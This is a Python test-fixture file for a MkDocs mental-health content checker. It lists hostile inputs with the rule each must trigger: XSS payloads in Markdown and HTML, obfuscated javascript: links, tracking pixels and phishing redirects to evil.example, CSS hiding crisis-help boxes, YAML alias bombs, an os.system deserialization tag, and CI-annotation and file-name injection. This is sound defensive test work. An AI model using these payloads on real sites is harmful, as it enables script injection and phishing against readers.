"""Hostile and broken input, as a pull request could bring it: the cases the corpus test and the
"rules off" build test share.

Every payload that could run marks itself with ``PWNED`` (in the code it would run, or in the address
it would load), so a test can tell a live payload from one shown as text.
"""

from __future__ import annotations

from dataclasses import dataclass, field

MARK = "PWNED"

BODY_PAYLOADS: dict[str, tuple[str, str]] = {
    # name: (Markdown, the rule psychoed check reports)
    "script element": ("<script>window.PWNED = 1</script>", "security.html"),
    "img onerror": ('<img src="x.png" onerror="window.PWNED = 1">', "security.attribute"),
    "svg onload": ('<svg onload="window.PWNED = 1"><circle r="1"/></svg>', "security.html"),
    "paragraph onclick": ('<p onclick="window.PWNED = 1">Tap here.</p>', "security.attribute"),
    "iframe": ('<iframe src="https://evil.example/PWNED"></iframe>', "security.html"),
    "object": ('<object data="https://evil.example/PWNED.swf"></object>', "security.html"),
    "embed": ('<embed src="https://evil.example/PWNED.swf">', "security.html"),
    "form": ('<form action="https://evil.example/PWNED"><input name="q"></form>', "security.html"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/PWNED">', "security.html"),
    "base": ('<base href="https://evil.example/PWNED/">', "security.html"),
    "link stylesheet": ('<link rel="stylesheet" href="https://evil.example/PWNED.css">', "security.html"),
    "style hides crisis": ("<style>/* PWNED */ .psy-crisis { display: none }</style>", "security.html"),
    "style overlay": (
        'Read <abbr title="x" style="position:fixed;inset:0;content:\'PWNED\'">this</abbr>.',
        "security.attribute",
    ),
    "javascript link": ("[Tap](javascript:window.PWNED=1)", "security.url"),
    "mixed-case link": ("[Tap](JaVaScRiPt:window.PWNED=1)", "security.url"),
    "entity link": ("[Tap](&#106;avascript:window.PWNED=1)", "security.url"),
    "tab in scheme": ("[Tap](java&#x09;script:window.PWNED=1)", "security.url"),
    "vbscript link": ("[Tap](vbscript:PWNED)", "security.url"),
    "data link": ("[Tap](data:text/html;base64,PHNjcmlwdD5QV05FRDwvc2NyaXB0Pg==)", "security.url"),
    "reference link": ("[Tap][away]\n\n[away]: javascript:window.PWNED=1", "security.url"),
    "autolink": ("<javascript:window.PWNED=1>", "security.url"),
    "html link": ('<a href="javascript:window.PWNED=1">Tap</a>', "security.url"),
    "tracking pixel": ("![](https://tracker.example/PWNED.gif)", "security.remote-image"),
    "scheme-relative pixel": ("![A chart](//tracker.example/PWNED.gif)", "security.remote-image"),
    "attribute list onclick": ('Tap this line.\n{: onclick="window.PWNED=1" }', "security.attribute-list"),
    "attribute list style": ("Read this.\n{: style=\"content:'PWNED'\" }", "security.attribute-list"),
    "skip-link id": ("Read this.\n{: #psy-main }", "security.reserved-id"),
    "unclosed element": ("Read <abbr>this and everything after it.", "security.unclosed-html"),
    "unclosed div": ("<div>\n\nAll the tips vanish.", "security.html"),
    "unclosed comment": ("<!-- everything after this vanishes", "security.unclosed-html"),
}
"""Markdown an article body, a bio, a topic description or a ``docs/`` page could hold."""


@dataclass(frozen=True)
class Hostile:
    """A site with one hostile or broken input, and what ``psychoed check`` must say about it."""

    rule: str
    file: str
    """The file the finding names, from the site's folder."""
    line_of: str | None
    """Text on the line the finding names (its first occurrence in ``file``); None when no line applies."""
    body: str | None = None
    """An article's body (written as ``content/articles/one.md``)."""
    article: str | bytes | None = None
    """A whole article file, front matter and all, instead of ``body``."""
    files: dict[str, str] = field(default_factory=dict)
    extra: dict[str, object] = field(default_factory=dict)
    outside_link: str | None = None
    """A path (from the site's folder) to make a link to a file outside the site."""
    patch: tuple[str, str] | None = None
    """Text in the written mkdocs.yml to replace, for values a YAML writer cannot write."""

    @property
    def exit_code(self) -> int:
        return 2 if self.file in ("mkdocs.yml", "language.yml") else 1  # settings, and files they name


ARTICLE = "content/articles/one.md"
FRONT = "---\ntitle: A title\ndescription: One sentence.\ntopics: [therapy-basics]\nreviewer: real-reviewer\n"


def _finding_line(markdown: str) -> str:
    """The line a payload's finding is on: an attribute list's own line, or else the first."""
    lines = markdown.splitlines()
    return next((line for line in lines if line.startswith("{:")), lines[0])


def _front(extra: str, reviewed: str = "2026-01-15") -> str:
    return FRONT + f"reviewed: {reviewed}\n" + extra + "---\nShort text. It is easy to read.\n"


CORPUS: dict[str, Hostile] = {
    **{
        f"body: {name}": Hostile(rule, ARTICLE, _finding_line(markdown), body=f"Intro.\n\n{markdown}\n")
        for name, (markdown, rule) in BODY_PAYLOADS.items()
    },
    "topic title with an onerror": Hostile(
        "topics.markup",
        "content/topics.yml",
        "title:",
        files={"content/topics.yml": 'therapy-basics:\n  title: "<img src=x onerror=alert(1)>"\n'},
    ),
    "reviewer name in bold": Hostile(
        "reviewers.markup",
        "content/reviewers.yml",
        "name:",
        files={"content/reviewers.yml": "real-reviewer:\n  name: '**Dr** Real'\n  credentials: PhD\n"},
    ),
    "bio with a script": Hostile(
        "security.html",
        "content/reviewers.yml",
        "<script>",
        files={
            "content/reviewers.yml": "real-reviewer:\n  name: Real Reviewer\n  credentials: PhD\n  bio: |\n"
            "    Works with adults.\n    <script>window.PWNED=1</script>\n"
        },
    ),
    "topic description with a javascript link": Hostile(
        "security.url",
        "content/topics.yml",
        "[Tap]",
        files={
            "content/topics.yml": "therapy-basics:\n  title: Therapy basics\n  description: |\n"
            "    What therapy is.\n    [Tap](javascript:window.PWNED=1)\n"
        },
    ),
    "docs page with a script": Hostile(
        "security.html", "docs/about.md", "<script>", files={"docs/about.md": "# About\n\n<script>PWNED</script>\n"}
    ),
    "call to action with javascript:": Hostile(
        "settings.url",
        "mkdocs.yml",
        "url: javascript",
        extra={"call_to_action": {"text": "Hi.", "link_text": "Go", "url": "javascript:alert(1)"}},
    ),
    "crisis chat with data:": Hostile(
        "crisis.contact",
        "content/crisis.yml",
        "url: data:",
        files={"content/crisis.yml": "test-line:\n  name: Chat\n  country: US\n  contacts:\n    - way: chat\n"
               "      url: data:text/html,PWNED\n  hours: Any time\n  languages: [English]\n"
               "  source: https://example.org/\n  verified: 2026-05-01\n"},
    ),
    "huge review interval": Hostile(
        "settings.value", "mkdocs.yml", "review_interval_months", extra={"review_interval_months": 10**30}
    ),
    "a number too long to read": Hostile(
        "yaml.impossible-value", "mkdocs.yml", "recent_count", extra={"recent_count": 7},
        patch=("recent_count: 7", "recent_count: " + "9" * 5000),
    ),
    "YAML nested 500 deep": Hostile("yaml.depth", ARTICLE, "title:", article=FRONT.replace("title: A title", "title: " + "[" * 500 + "]" * 500) + "reviewed: 2026-01-15\n---\nText.\n"),
    "block YAML nested deep": Hostile(
        "yaml.depth",
        "content/topics.yml",
        "  " * 19 + "k:",
        files={"content/topics.yml": "".join("  " * depth + "k:\n" for depth in range(200))},
    ),
    "13th month": Hostile("yaml.impossible-value", ARTICLE, "reviewed:", article=_front("", reviewed="2026-13-01")),
    "30 February": Hostile("yaml.impossible-value", ARTICLE, "reviewed:", article=_front("", reviewed="2025-02-30")),
    "year 0": Hostile("yaml.impossible-value", ARTICLE, "reviewed:", article=_front("", reviewed="0000-01-01")),
    "review far in the future": Hostile("frontmatter.reviewed-future", ARTICLE, "reviewed:", article=_front("", reviewed="9999-12-31")),
    "next review in 9999": Hostile("frontmatter.next-review-far", ARTICLE, "next_review:", article=_front("next_review: 9999-12-31\n")),
    "merge key": Hostile("yaml.merge-key", ARTICLE, "<<:", article=_front("<<: {title: Another}\n")),
    "alias bomb": Hostile(
        "yaml.alias", ARTICLE, "b: [*a", article=_front('a: &a ["x", "x"]\nb: [*a, *a, *a]\n')
    ),
    "python tag": Hostile("yaml.tag", ARTICLE, "status:", article=_front("status: !!python/object/apply:os.system [id]\n")),
    "newline in a key": Hostile(
        "frontmatter.unknown-key", ARTICLE, '"x', article=_front('"x\\n::error file=forged.md::forged": 1\n')
    ),
    "not UTF-8": Hostile("source.encoding", ARTICLE, "title:", article=b"---\ntitle: \xff\xfe\n---\n"),
    "article over the size limit": Hostile(
        "source.too-large", ARTICLE, None, article=_front("") + "Words and more words. " * 30_000
    ),
    "100 KB of [": Hostile("body.too-many-brackets", ARTICLE, "[[[", body="Intro.\n\n" + "[" * 100_000 + "\n"),
    "100 KB of ![": Hostile("body.too-many-brackets", ARTICLE, "![![", body="Intro.\n\n" + "![" * 50_000 + "\n"),
    "brackets spread over paragraphs": Hostile(
        "body.too-many-brackets", ARTICLE, "[b] [b] [b]", body="Intro.\n\n" + "[a] " * 600 + "\n\n" + "[b] " * 600 + "\n"
    ),
    "a bio of brackets": Hostile(
        "body.too-many-brackets", "content/reviewers.yml", "[[[",
        files={"content/reviewers.yml": "real-reviewer:\n  name: Real Reviewer\n  credentials: PhD\n  bio: |\n    " + "[" * 5000 + "\n"},
    ),
    "hidden article": Hostile(
        "content.hidden", "content/articles/.one.md", None, files={"content/articles/.one.md": _front("")}
    ),
    "article linked from outside": Hostile("source.outside-link", "content/articles/two.md", None, outside_link="content/articles/two.md"),
    "docs page linked from outside": Hostile("source.outside-link", "docs/secrets.md", None, outside_link="docs/secrets.md"),
    "docs folder linked from outside": Hostile("source.outside-link", "docs/etc", None, outside_link="docs/etc"),
    # docs/ front matter: read by the bounded loader, declared keys only, plain text
    "docs title closes <title>": Hostile("security.front-matter", "docs/team.md", "title:", files={"docs/team.md": "---\ntitle: 'Team</title><script>PWNED</script><title>'\n---\n# Team\n"}),
    "docs description with an entity": Hostile("security.front-matter", "docs/team.md", "description:", files={"docs/team.md": "---\ndescription: Team &lt;script&gt;PWNED\n---\n# Team\n"}),
    "docs redirect template": Hostile("security.front-matter", "docs/team.md", "template:", files={"docs/team.md": "---\ntemplate: redirect.html\nlocation: https://phish.example/PWNED\n---\n# Team\n"}),
    "docs author and status": Hostile("security.front-matter", "docs/team.md", "author:", files={"docs/team.md": "---\nauthor: <b>PWNED</b>\nstatus: new\n---\n# Team\n"}),
    "docs template tag in title": Hostile("security.front-matter", "docs/team.md", "title:", files={"docs/team.md": "---\ntitle: '{{ config.extra }}'\n---\n# Team\n"}),
    "docs unfenced metadata": Hostile("security.front-matter", "docs/team.md", "template:", files={"docs/team.md": "template: redirect.html\nlocation: https://phish.example/PWNED\n\n# Team\n"}),
    "docs alias bomb": Hostile("yaml.alias", "docs/team.md", "b: [*a", files={"docs/team.md": '---\na: &a ["x", "x"]\nb: [*a, *a, *a]\n---\n# Team\n'}),
    "docs python tag": Hostile("yaml.tag", "docs/team.md", "title:", files={"docs/team.md": "---\ntitle: !!python/object/apply:os.system [id]\n---\n# Team\n"}),
    # Static files under docs/: images by their bytes, nowhere the theme keeps a file
    "an HTML page in docs": Hostile("security.static-file", "docs/x.html", None, files={"docs/x.html": "<script>window.PWNED=1</script>\n"}),
    "an SVG with a script": Hostile("security.static-file", "docs/img/x.svg", None, files={"docs/img/x.svg": "<svg onload='window.PWNED=1'/>\n"}),
    "a script named .png": Hostile("security.static-file", "docs/img/x.png", None, files={"docs/img/x.png": "<script>PWNED</script>\n"}),
    "a style sheet": Hostile("security.static-file", "docs/extra.css", None, files={"docs/extra.css": ".psy-crisis { display: none } /* PWNED */\n"}),
    "the theme's own script replaced": Hostile("security.reserved-path", "docs/assets/psychoed/psychoed.js", None, files={"docs/assets/psychoed/psychoed.js": "/* PWNED */\n"}),
    "the search index replaced": Hostile("security.reserved-path", "docs/search-index/en/meta.json", None, files={"docs/search-index/en/meta.json": "{}\n"}),
    "a page at the 404 address": Hostile("security.reserved-path", "docs/404.md", None, files={"docs/404.md": "# Lost\n"}),
    # Theme classes
    "overlay class on a paragraph": Hostile("security.class", ARTICLE, "{: .md-consent__overlay", body="Intro.\n\nTap here.\n{: .md-consent__overlay }\n"),
    "theme class in raw HTML": Hostile("security.class", ARTICLE, "<abbr", body='Intro <abbr class="md-consent__inner">A</abbr>.\n'),
    "psychoed class in a docs page": Hostile("security.class", "docs/about.md", "{: .psy-crisis", files={"docs/about.md": "# About\n\nFake help.\n{: .psy-crisis }\n"}),
    # Bounded structure and patterns
    "a 2 KB line of list markers": Hostile("security.nesting", ARTICLE, "- - -", body="Intro.\n\n" + "- " * 1000 + "Go to bed.\n"),
    "quotes nested 300 deep": Hostile("security.nesting", ARTICLE, ">>>", body="Intro.\n\n" + ">" * 300 + " Deep.\n"),
    "nested lists in a bio": Hostile("security.nesting", "content/reviewers.yml", "- - -", files={"content/reviewers.yml": "real-reviewer:\n  name: Real Reviewer\n  credentials: PhD\n  bio: |\n    " + "- " * 600 + "x\n"}),
    "a backtracking site pattern": Hostile(
        "language.pattern", "language.yml", "(?=", extra={"language_rules": "language.yml"},
        files={"language.yml": "sources:\n  own: {title: Ours, url: 'https://example.org/'}\nentries:\n  - id: x\n    patterns: ['a(?=b)']\n    suggestion: a\n    reason: b.\n    source: own\n"},
    ),
    # URLs as browsers read them
    "image from http:host": Hostile("security.remote-image", ARTICLE, "![c]", body="Intro.\n\n![c](http:evil.example/PWNED.png)\n"),
    "image from http:/host": Hostile("security.remote-image", ARTICLE, "![c]", body="Intro.\n\n![c](http:/evil.example/PWNED.png)\n"),
    "image from a backslash host": Hostile("security.remote-image", ARTICLE, "<img", body="Intro.\n\n<img src=\"\\\\evil.example/PWNED.png\">\n", extra={"allowed_html": ["img"]}),
    # Names
    "a newline in an article's name": Hostile("source.file-name", "content/articles/name\\x0a.md", None, files={"content/articles/name\n.md": _front("")}),
    "a crisis chat on another host": Hostile(
        "crisis.contact", "content/crisis.yml", "url: https://evil",
        files={"content/crisis.yml": "test-line:\n  name: Chat\n  country: US\n  contacts:\n    - way: chat\n"
               "      url: https://evil.example/PWNED\n  hours: Any time\n  languages: [English]\n"
               "  source: https://example.org/\n  verified: 2026-05-01\n"},
    ),
}  # fmt: skip
"""At least 40 hostile or broken inputs, each with the finding ``psychoed check`` must give."""
